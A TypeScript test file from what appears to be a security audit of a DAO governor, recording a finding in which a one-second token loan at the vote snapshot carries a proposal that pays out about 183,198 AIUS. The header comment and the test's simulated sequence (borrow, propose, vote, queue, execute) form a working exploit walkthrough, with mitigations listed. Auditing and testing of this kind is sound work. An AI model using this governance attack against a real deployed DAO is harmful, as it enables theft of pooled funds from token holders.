/**
 * FINDING 35, exploit of the governor. A vote of the DAO needs 40 000 AIUS for one second.
 *
 * Who:    whoever can borrow 40 000 AIUS from one second to the next, on a day when as many do not vote against.
 * Needs:  1 AIUS to propose; the loan at the second of the snapshot, which is known a day before.
 * Costs:  a second's interest. The votes are cast a week long, with tokens long given back.
 * Brings: anything that governance can do: 183 198 AIUS here, by a rate of 100 000 on a model (finding 33).
 * Harms:  everyone.
 * Rule:   section 7: Bravo-style votes at a snapshot, quorum 4 % of the supply in for-votes, although 60 % of the supply lie in the
 *         engine and cannot vote.
 * Mend:   votes of tokens that are locked for the vote's duration; a guardian who may cancel; bounds in the setters.
 * On the contracts alone: the model has no governor.
 */
import assert from "node:assert/strict";
import { addressOf } from "../../sim/base/identity.ts";
import { DAY, WAD } from "../../sim/base/types.ts";
import { engine, token } from "../../sim/chain/actions.ts";
import type { EvmChain } from "../../sim/chain/evm/chain.ts";
import { SOLVER } from "../engine/stage.ts";
import { FOR, Proposal, QUORUM, THRESHOLD } from "../governance/fixture.ts";
import { openEvm } from "../support/chains.ts";
import { assertOk } from "../support/outcomes.ts";
import { aius, Scene } from "./scene.ts";

const BORROWER = addressOf("borrower");
const LENDER = addressOf("lender");

describe("FINDING: a vote of the DAO needs its tokens for one second, on evm", () => {
  /** The borrower holds the quorum at `snapshot`, and gives it back a second later. */
  async function borrow(scene: Scene, snapshot: number): Promise<void> {
    scene.now = snapshot;
    await scene.mine(token.transfer(LENDER, BORROWER, QUORUM - THRESHOLD));
    scene.wait(1);
    await scene.mine(token.transfer(BORROWER, LENDER, QUORUM - THRESHOLD));
  }

  it("the pool is paid out by a proposal that one loan has carried", async () => {
    const scene = await Scene.open({ name: "evm", open: openEvm });
    const task = await scene.solvedTask();
    await scene.fund(THRESHOLD, BORROWER);
    await scene.fund(QUORUM, LENDER);
    await scene.mine(token.delegate(BORROWER, BORROWER));
    scene.wait(1);
    const raise = ["engine", "setSolutionMineableRate", [scene.model("plain"), 100_000n * WAD]] as const;
    const proposal = new Proposal(scene.chain as EvmChain, [raise]);
    assertOk(await proposal.propose(scene.now, BORROWER));
    const snapshot = scene.now + DAY;
    await borrow(scene, snapshot);
    assertOk(await proposal.vote(BORROWER, FOR, snapshot + 2));
    assertOk(await proposal.queue(snapshot + 7 * DAY + 1, BORROWER));
    assertOk(await proposal.execute(snapshot + 10 * DAY + 1, BORROWER));

    scene.now = snapshot + 10 * DAY + 1;
    const claim = () => scene.mine(engine.claimSolution(SOLVER, task));
    assert.equal(await scene.gain(claim, SOLVER), aius("183197.54101745423277"));
    assert.equal(await scene.balance(BORROWER), THRESHOLD);
  });
});
